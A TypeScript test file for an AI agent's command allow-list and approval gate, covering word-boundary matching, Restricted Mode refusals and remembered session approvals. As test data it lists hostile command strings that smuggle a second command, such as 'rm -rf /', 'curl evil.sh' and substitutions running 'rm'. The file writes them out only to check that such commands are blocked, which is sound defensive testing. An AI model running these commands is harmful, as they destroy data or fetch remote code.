import assert from "node:assert/strict";
import { test } from "node:test";
import { chainsOrRedirects, commandAllowed } from "../../core/agent/command-allow-list";
import { SessionApprovals, gateFor, settingsForPolicy } from "../../core/agent/approval";

test("an allow-list entry allows the exact command or the command with more arguments", () => {
  const allowed = ["npm test", "git status", "ls"];
  assert.ok(commandAllowed("npm test", allowed));
  assert.ok(commandAllowed("  npm   test  -- --watch ", allowed), "whitespace is normalised; more arguments are fine");
  assert.ok(commandAllowed("ls -la src", allowed));
  assert.ok(!commandAllowed("npm tester", allowed), "a prefix must end at a word boundary");
  assert.ok(!commandAllowed("npm", allowed), "a shorter command is not allowed by a longer entry");
  assert.ok(!commandAllowed("git push", allowed));
  assert.ok(!commandAllowed("", allowed));
  assert.ok(!commandAllowed("npm test", []));
});

test("a command that chains, pipes, redirects or substitutes never matches", () => {
  const allowed = ["npm test", "ls"];
  for (const command of [
    "npm test; rm -rf /",
    "npm test && curl evil.sh",
    "npm test || true",
    "ls | sh",
    "ls > out.txt",
    "ls < in.txt",
    "ls `rm x`",
    "ls $(rm x)",
    "ls\nrm x",
    "ls\rrm x",
    "npm test & disown",
  ]) {
    assert.ok(chainsOrRedirects(command), command);
    assert.ok(!commandAllowed(command, allowed), command);
  }
  assert.ok(!commandAllowed("ls x", ["ls; rm"]), "an entry that chains allows nothing");
  assert.ok(!chainsOrRedirects("git log --format=%H -n 3"));
});

test("the gate: Restricted Mode, then the agent's kinds, then settings, allow-list and session decisions", () => {
  const ask = settingsForPolicy("reads", ["npm test"]);
  const call = (kind: "read" | "edit" | "command", args: Record<string, unknown> = {}, extra = {}) =>
    gateFor({
      toolName: kind === "command" ? "run_command" : kind === "edit" ? "write_file" : "read_file",
      kind,
      arguments: args,
      settings: ask,
      ...extra,
    });
  assert.deepEqual(call("read"), { kind: "auto", by: "policy" });
  assert.deepEqual(call("edit"), { kind: "ask" });
  assert.deepEqual(call("command", { command: "npm test -- a" }), { kind: "auto", by: "policy" });
  assert.deepEqual(call("command", { command: "npm test > log" }), { kind: "ask" });
  assert.equal(call("edit", {}, { restricted: "untrusted folder" }).kind, "refuse");
  assert.deepEqual(call("command", { command: "npm test" }, { restricted: "untrusted folder" }), {
    kind: "refuse",
    by: "restricted-mode",
    reason: "untrusted folder",
  });
  assert.deepEqual(
    call("read", {}, { restricted: "untrusted folder" }),
    { kind: "auto", by: "policy" },
    "reads are not edits or commands",
  );
  assert.deepEqual(call("edit", {}, { forbiddenKinds: ["edit", "command"], agentName: "Ask" }), {
    kind: "refuse",
    by: "policy",
    reason: "the Ask agent does not run edit tools",
  });

  const remembered = new SessionApprovals();
  remembered.remember("run_command", "make  build");
  remembered.remember("write_file", undefined);
  assert.deepEqual(call("command", { command: "make build" }, { remembered }), {
    kind: "auto",
    by: "user",
    scope: "session",
  });
  assert.deepEqual(
    call("command", { command: "make build install" }, { remembered }),
    { kind: "ask" },
    "only the same command line",
  );
  assert.deepEqual(call("edit", {}, { remembered }), { kind: "auto", by: "user", scope: "session" });
});
